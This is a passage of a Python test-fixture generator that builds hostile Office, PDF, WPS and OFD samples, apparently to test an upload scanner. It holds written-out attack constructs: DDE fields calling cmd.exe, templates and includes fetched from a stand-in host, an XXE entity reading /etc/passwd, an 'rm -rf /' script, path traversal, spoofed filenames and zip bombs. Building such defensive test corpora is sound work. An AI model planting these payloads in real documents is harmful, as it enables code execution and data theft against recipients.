        "doc",
        "a name made by a field",
        make.compound(word_text("\x13 \x13QUOTE 68 68 69\x14DDE\x15AUTO c:\\\\cmd.exe\x14\x15")),
    )
    yield "doc", "INCLUDETEXT", make.compound(word_text('\x13 INCLUDETEXT "http://10.1.2.3/a.doc" \x14y\x15'))
    yield "doc", "INCLUDEPICTURE", make.compound(word_text('\x13 INCLUDEPICTURE "http://10.1.2.3/a.png" \x14y\x15'))
    yield "doc", "LINK", make.compound(word_text("\x13 LINK Excel.Sheet.8 \\\\\\\\10.1.2.3\\\\a.xls \x14y\x15"))
    yield "doc", "a template to fetch", make.compound(word_text("x", template="http://10.1.2.3/t.dot"))
    yield "doc", "a template on a share", make.compound(word_text("x", template="\\\\10.1.2.3\\t.dot"))
    yield "doc", "a control", make.doc({"ObjectPool": {"_1": {"\x03OCXNAME": b"x"}}})
    for what, inside in wrapped():
        if what != "a control":
            yield "ppt", f"{what}, compressed in the stream", ppt_with(ppt_object(inside))
    yield (
        "ppt",
        "a wrapped shortcut, not compressed",
        ppt_with(ppt_object(make.compound({"\x01Ole10Native": b"a.lnk"}), packed=False)),
    )
    yield (
        "dps",
        "a wrapped file in a document in the stream",
        ppt_with(
            ppt_object(
                make.compound(
                    {
                        "Package": make.docx(
                            {"word/a.bin": make.compound({"\x01Ole10Native": b"x"}), "word/b.png": NOISE}
                        )
                    }
                )
            )
        ),
    )
    yield (
        "ppt",
        "macros of an object in the stream",
        ppt_with(ppt_object(make.xls({"_VBA_PROJECT_CUR": {"VBA": {"dir": b"x"}}}))),
    )
    yield "ppt", "a program on a click", ppt_with(ppt_action(2))
    yield "ppt", "a program on hovering", ppt_with(ppt_action(2, hover=True))
    yield "ppt", "a link on hovering", ppt_with(ppt_action(4, hover=True))
    atom = struct.pack("<HHL", 0, 0x0FD1, 12) + bytes(12)
    yield "ppt", "a linked object", ppt_with(struct.pack("<HHL", 0x000F, 0x0FCE, len(atom)) + atom)
    atom = struct.pack("<HHL", 0, 0x0FFB, 4) + bytes(4)
    yield "ppt", "a control", ppt_with(struct.pack("<HHL", 0x000F, 0x0FEE, len(atom)) + atom)
    yield "xls", "a web query", make.xls(records=record(0x01AD, bytes(20)))
    yield "et", "a query of a database in a sheet", make.xls(records=record(0x000A, b"") + record(0x00DC, bytes(20)))
    yield "xls", "a data connection", make.xls(records=record(0x0876, bytes(20)))
    yield (
        "xls",
        "DDE behind the workbook's own records",
        make.xls(records=record(0x000A, b"") + record(0x01AE, struct.pack("<2HB", 1, 9, 0) + b"cmd\x03/calc")),
    )
    yield (
        "xls",
        "a workbook on a share",
        make.xls(records=record(0x01AE, struct.pack("<2HB", 1, 14, 0) + b"\x01\x01@10.1.2.3\x03a")),
    )
    yield "xls", "a function of the web", make.xls(records=record(0x0018, bytes(14) + b"_xlfn.WEBSERVICE"))
    yield "xls", "a PDF in an object", make.xls({"MBD00001": {"CONTENTS": make.pdf()}})
    yield "xls", "controls", make.xls({"Ctls": b"x"})
    link = record(0x01AE, struct.pack("<2HB", 1, 9, 0) + b"cmd\x03/calc")
    yield "xls", "DDE behind empty records", make.xls(records=bytes(400) + link)
    bound = record(0x0085, struct.pack("<LBBBB6s", 49, 0, 0, 6, 0, b"Sheet1"))
    yield (
        "xls",
        "DDE in a sheet that lies elsewhere",
        make.xls(records=bound + record(0x000A, b"") + b"\1\2\xff\x7fabc" + link),
    )
    for what, streams in (
        ("DDE in a workbook", {"Workbook": link}),
        ("a macro sheet in a workbook", {"Workbook": make.bound_sheet(1)}),
        ("DDE in a text", word_text(dde)),
        ("a template to fetch in a text", word_text("x", template="http://10.1.2.3/t.dot")),
        ("a program on a click in slides", {"PowerPoint Document": bytes(900) + ppt_action(2)}),
    ):
        yield "doc", f"{what} in a storage", make.doc({"ObjectPool": {"_1": streams}})
    formula = "0002CE02-0000-0000-C000-000000000046"
    wrapped_file = {"_1": {"\x01Ole10Native": struct.pack("<L", 40) + b"\2\0a.exe\0C:\\a.exe\0"}}
    yield "doc", "a wrapped program of another class", with_class(make.doc({"ObjectPool": wrapped_file}), "_1", formula)


def cell_picture_variants() -> Iterator[tuple[str, str, bytes]]:
    types = make.content_types("xl/cellImages.xml", "application/vnd.wps-officedocument.cellimage+xml")
    pictures: dict[str, bytes | str] = {"[Content_Types].xml": types, "xl/cellImages.xml": "<a/>"}
    for name, content in (("xl/media/a.exe", b"x"), ("xl/media/a.png", b"MZ\x90\0" + bytes(90)), ("a.bin", b"x")):
        hidden = make.package(pictures | {name: content})
        yield "et", f"{name} among pictures of cells", make.xls({"ETCellImageData": hidden})


def ofd_variants() -> Iterator[tuple[str, bytes]]:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    yield (
        "an address opened with the page",
        make.ofd(
            {
                "Doc_0/a.xml": f'<ofd:Page {space}><ofd:Action Event="PO"><ofd:URI URI="http://x/"/></ofd:Action></ofd:Page>'
            }
        ),
    )
    yield (
        "a share by a click",
        make.ofd(
            {
                "Doc_0/a.xml": f'<ofd:Page {space}><ofd:Action Event="CLICK"><ofd:URI URI="file://10.1.2.3/a"/></ofd:Action></ofd:Page>'
            }
        ),
    )
    yield "a program inside", make.ofd({"Doc_0/Attachs/a.exe": b"MZ\x90\0" + bytes(90)})
    opening = '<:Page xmlns:=""><ofd:Action Event="PO"><ofd:URI URI="http://x/"/></ofd:Action></:Page>'
    yield "an address opened with the page, in prefixes that no parser reads", make.ofd({"Doc_0/a.xml": opening})


def variants() -> list[HostileFile]:
    """Return our own ways around the rules."""
    found = [HostileFile("PDF", what, "材料.pdf", content) for what, content in pdf_variants()]
    found += [HostileFile("Word", what, "材料.docx", content) for what, content in word_variants()]
    found += [HostileFile("PowerPoint", what, "材料.pptx", content) for what, content in powerpoint_variants()]
    found += [HostileFile("Excel", what, "材料.xlsx", content) for what, content in excel_variants()]
    found += [HostileFile("old Office", what, f"材料.{kind}", content) for kind, what, content in old_variants()]
    found += [HostileFile("WPS", what, f"材料.{kind}", content) for kind, what, content in cell_picture_variants()]
    found += [HostileFile("OFD", what, "材料.ofd", content) for what, content in ofd_variants()]
    return found


# The classes of the rules


def _plain(name: str, what: str, content: bytes) -> HostileFile:
    return HostileFile("listed", what, name, content)


def listed() -> list[HostileFile]:
    """Return one file or more of every class that the rules name."""
    html = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
    program = b"MZ\x90\x00" + bytes(900)
    vba: make.Tree = {"VBA": {"dir": b"x"}, "PROJECT": b"x"}
    large = {f"word/{number}.xml": "x" for number in range(10_001)}
    overlapping = bytearray(make.docx({"word/a.xml": b"same", "word/b.xml": b"same"}))
    records = [at for at in range(len(overlapping)) if overlapping.startswith(b"PK\x01\x02", at)]
    overlapping[records[-1] + 42 : records[-1] + 46] = overlapping[records[-2] + 42 : records[-2] + 46]
    deep = make.docx()
    for _ in range(4):
        deep = make.docx({"word/embeddings/a.docx": deep})
    locked = make.compound({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": bytes(5000)})
    return [
        _plain("空.pdf", "empty", b""),
        _plain("网页.pdf", "a web page under another name", html),
        _plain("网页.docx", "a web page under another name", html),
        _plain("网页.jpg", "a web page under another name", b"\xef\xbb\xbf  " + html),
        _plain("网页.html", "a web page", html),
        _plain("图.png", "SVG under another name", svg),
        _plain("图.svg", "SVG", svg),
        _plain("脚本.pdf", "a script under another name", b"#!/bin/sh\nrm -rf /\n"),
        _plain("程序.exe", "a program", program),
        _plain("程序.jpg", "a program under another name", program),
        _plain("程序.doc", "a program under another name", b"\x7fELF" + bytes(900)),
        _plain("宏.docm", "macros by name", make.docx()),
        _plain("宏.docx", "macros", make.docx({"word/vbaProject.bin": b"x"})),
        _plain(
            "宏.xlsx",
            "macros by content type",
            typed("xl/a.bin", "application/vnd.ms-office.vbaProject", b"x", make.xlsx),
        ),
        _plain("宏.doc", "macros in an old file", make.doc({"Macros": vba})),
        _plain("宏.xls", "macros in an old file", make.xls({"_VBA_PROJECT_CUR": vba})),
        _plain("宏.ppt", "macros in an old file", make.ppt(has_macros=1)),
        _plain("密码.pdf", "encrypted", make.pdf(user_password="x")),
        _plain("权限.pdf", "a script behind permissions", make.pdf(owner_password="x", catalog=f"/AA<</WC{SCRIPT}>>")),
        _plain("密码.docx", "encrypted", locked),
        _plain("密码.doc", "encrypted", make.doc(flags=0x0100)),
        _plain("密码.ppt", "encrypted", make.ppt(token=0xF3D1C4DF)),
        _plain("密码.ofd", "encrypted", make.ofd({"Encryptions.xml": "<x/>"})),
        _plain("半份.pdf", "truncated", make.pdf(pages=200)[:9000]),
        _plain("半份.docx", "truncated", make.docx(text="长" * 5000)[:-40]),
        _plain("半份.jpg", "truncated", make.jpg()[:-200]),
        _plain("半份.png", "truncated", make.png()[:-30]),
        _plain("半份.mp4", "truncated", make.mp4()[:-500]),
        _plain("炸弹.docx", "a bomb by ratio", make.docx({"word/media/a.bmp": bytes(11 << 20)})),
        _plain("炸弹.xlsx", "a bomb by members", make.package(members(make.xlsx()) | large)),
        _plain("炸弹.pptx", "a bomb inside", make.pptx({"ppt/a.docx": make.docx({"word/a.bmp": bytes(11 << 20)})})),
        _plain("重叠.docx", "overlapping members", bytes(overlapping)),
        _plain("套叠.docx", "documents in documents", deep),
        _plain("大图.png", "an image above 50 Mpx", make.png_claiming(10_000, 5_001)),
        _plain(
            "越界.docx",
            "a path that leads outside",
            make.docx({"__/evil.txt": "x"}).replace(b"__/evil.txt", b"../evil.txt"),
        ),
        _plain("夹带.pdf", "another file before the first byte", b"GIF89a" + bytes(20) + make.pdf()),
        _plain("夹带.jpg", "another file before the first byte", b"\x01junk\x02" + make.jpg()),
        _plain("合同\x00.pdf", "a name with NUL", make.pdf()),
        _plain("通知.pdf.exe", "a double extension", make.pdf()),
        _plain("通知.pdf .scr", "a double extension with a blank", make.pdf()),
        _plain("通知\u202efdp.exe", "a name written backwards", make.pdf()),
        _plain("压缩包.docx", "an archive under another name", make.package({"a.txt": "x"})),
        _plain("旧.docx", "macros in an old file under a new name", make.doc({"Macros": vba})),
        _plain(
            "实体.docx",
            "entities",
            make.docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        ),
        _plain("快捷.lnk", "a shortcut", SHORTCUT),
    ]
